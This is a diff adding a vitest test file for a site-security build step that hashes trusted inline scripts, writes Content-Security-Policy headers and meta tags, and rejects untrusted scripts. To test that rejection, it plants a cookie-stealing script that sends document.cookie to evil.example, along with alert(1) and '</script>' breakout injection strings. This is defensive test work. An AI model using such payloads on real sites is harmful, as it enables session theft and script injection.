@@ -1,0 +1,83 @@
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import { ThemeSchema } from '../../src/config/theme.ts';
+import type { TenantBundle } from '../../src/tenant/bundle.ts';
+import { applySiteSecurity, scriptHash, withCspMeta } from './site-security.ts';
+import { isTrustedScript, loadTrustedScripts } from './trusted-inline-scripts.ts';
+
+const trusted = await loadTrustedScripts();
+const VISIT_TRACKER = [...trusted.inlineBodies].find((body) => body.includes('forecourt:visited-pages'));
+const ASTRO_ISLAND = [...trusted.exact].find((text) => text.includes('astro-island'));
+
+function bundle(): TenantBundle {
+  return {
+    config: {
+      url: 'https://www.dealer.example',
+      search: { engine: { type: 'meilisearch', host: 'https://search.dealer.example', searchKey: 'k', indexUid: 'cars' } },
+      integrations: { platformApi: { baseUrl: 'https://api.dealer.example' } },
+      theme: ThemeSchema.parse({}),
+    },
+    vehicles: [{ photos: ['https://photos.feed.example/1.jpg'] }],
+  } as unknown as TenantBundle;
+}
+
+const page = (scripts: string[]) => `<!DOCTYPE html><html><head><meta charset="utf-8"><title>x</title>${scripts.map((s) => `<script>${s}</script>`).join('')}</head><body></body></html>`;
+
+describe('trusted inline scripts', () => {
+  it('trusts what the code writes: Astro hydration, is:inline bodies, define:vars with plain constants', () => {
+    expect(ASTRO_ISLAND).toBeDefined();
+    expect(VISIT_TRACKER).toBeDefined();
+    expect(isTrustedScript(ASTRO_ISLAND ?? '', trusted)).toBe(true);
+    expect(isTrustedScript(`\n  ${VISIT_TRACKER}\n`, trusted)).toBe(true);
+    const gate = [...trusted.inlineBodies].find((body) => body.includes('sessionKey')) ?? '';
+    expect(isTrustedScript(`(function(){const type = "my-garage";\nconst sessionKey = "forecourt:session";\n\n  ${gate}\n})();`, trusted)).toBe(true);
+  });
+
+  it('trusts nothing else, not even a trusted body behind an injected constant', () => {
+    expect(isTrustedScript('alert(1)', trusted)).toBe(false);
+    const gate = [...trusted.inlineBodies].find((body) => body.includes('sessionKey')) ?? '';
+    expect(isTrustedScript(`(function(){const type = alert(1);\n${gate}\n})();`, trusted)).toBe(false);
+    expect(isTrustedScript(`(function(){const type = "</script><script>alert(1)";\n${gate}\n})();`, trusted)).toBe(false);
+  });
+});
+
+describe('applySiteSecurity', () => {
+  let dir = '';
+  afterEach(() => rmSync(dir, { recursive: true, force: true }));
+
+  it('hashes the trusted scripts, writes the CSP into each page and the _headers file', async () => {
+    dir = mkdtempSync(join(tmpdir(), 'site-security-'));
+    mkdirSync(join(dir, 'cars'));
+    writeFileSync(join(dir, 'index.html'), page([ASTRO_ISLAND ?? '']));
+    writeFileSync(join(dir, 'cars/index.html'), page([`\n  ${VISIT_TRACKER}\n`]));
+    writeFileSync(join(dir, 'logo.svg'), '<svg/>');
+    const result = await applySiteSecurity(dir, bundle(), trusted);
+    expect(result.ok).toBe(true);
+    expect(result.csp).toContain(`'${scriptHash(ASTRO_ISLAND ?? '')}'`);
+    expect(result.csp).toContain("connect-src 'self' https://api.dealer.example https://search.dealer.example");
+    expect(result.csp).toContain("img-src 'self' data: blob: https://photos.feed.example");
+    const home = readFileSync(join(dir, 'index.html'), 'utf8');
+    expect(home).toMatch(/^<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="content-security-policy" content="default-src 'none'; script-src 'self' 'sha256-/);
+    expect(home).not.toMatch(/<meta http-equiv[^>]*frame-ancestors/);
+    const headers = readFileSync(join(dir, '_headers'), 'utf8');
+    expect(headers).toContain(`Content-Security-Policy: ${result.csp}`);
+    expect(headers).toMatch(/\/logo\.svg\n {2}Content-Security-Policy: [^\n]*sandbox/);
+  });
+
+  it('fails the dealer, naming the page, when a page holds a script the code did not write', async () => {
+    dir = mkdtempSync(join(tmpdir(), 'site-security-'));
+    mkdirSync(join(dir, 'blog'));
+    writeFileSync(join(dir, 'index.html'), page([ASTRO_ISLAND ?? '']));
+    writeFileSync(join(dir, 'blog/index.html'), page(['fetch("https://evil.example/?c="+document.cookie)']));
+    const result = await applySiteSecurity(dir, bundle(), trusted);
+    expect(result.ok).toBe(false);
+    expect(result.problems).toEqual([expect.stringContaining('blog/index.html: an inline script the code did not write')]);
+    expect(result.csp).not.toContain(scriptHash('fetch("https://evil.example/?c="+document.cookie)'));
+  });
+
+  it('escapes the policy in the meta tag', () => {
+    expect(withCspMeta('<head><meta charset="utf-8"></head>', `a "b" & c`)).toBe('<head><meta charset="utf-8"><meta http-equiv="content-security-policy" content="a &quot;b&quot; &amp; c"></head>');
+  });
+});
